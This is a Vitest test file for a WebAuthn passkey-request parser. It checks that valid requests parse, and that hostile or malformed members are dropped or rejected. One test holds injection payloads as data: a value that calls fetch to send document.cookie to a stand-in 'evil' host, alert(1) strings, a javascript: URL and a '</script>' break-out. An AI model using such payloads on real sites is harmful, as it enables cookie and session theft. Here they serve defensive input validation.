import { expect, it } from 'vitest';
import { type PasskeyRequest, parsePasskeyRequest } from './passkey-request.js';

const request: PasskeyRequest = {
  challenge: 'Zm9v_-8',
  timeout: 60_000,
  rpId: 'whatsapp.com',
  allowCredentials: [{ type: 'public-key', id: 'YQ', transports: ['internal', 'hybrid'] }],
  userVerification: 'required',
  hints: ['client-device'],
  extensions: { appid: 'https://web.whatsapp.com/app' },
};

it('accepts a request in the JSON form of WebAuthn', () => {
  expect(parsePasskeyRequest(JSON.stringify(request))).toEqual(request);
  expect(parsePasskeyRequest('{"challenge":"Zm9v"}')).toEqual({ challenge: 'Zm9v' });
});

it('drops every member of an unknown form', () => {
  const hostile = {
    ...request,
    rpId: '"}), fetch("//evil/" + document.cookie), ({"',
    timeout: 1e300,
    userVerification: 'required\u2028alert(1)',
    hints: ['fine', 1, '`'],
    allowCredentials: [{ type: 'public-key', id: 'YQ', evil: 'alert(1)' }, { type: 'password', id: 'YQ' }, 'x'],
    extensions: { appid: 'javascript:alert(1)', evil: 'alert(1)' },
    evil: '</script>',
  };
  expect(parsePasskeyRequest(JSON.stringify(hostile))).toEqual({
    challenge: 'Zm9v_-8',
    hints: ['fine'],
    allowCredentials: [{ type: 'public-key', id: 'YQ' }],
  });
});

it.each([
  ['no JSON', 'alert(1)'],
  ['no object', '[]'],
  ['no challenge', '{"rpId":"whatsapp.com"}'],
  ['a challenge that is not base64url', '{"challenge":"a) + alert(1"}'],
  ['a challenge of 10 MB', JSON.stringify({ challenge: 'a'.repeat(10_000_000) })],
])('returns undefined for %s', (_, text) => {
  expect(parsePasskeyRequest(text)).toBeUndefined();
});
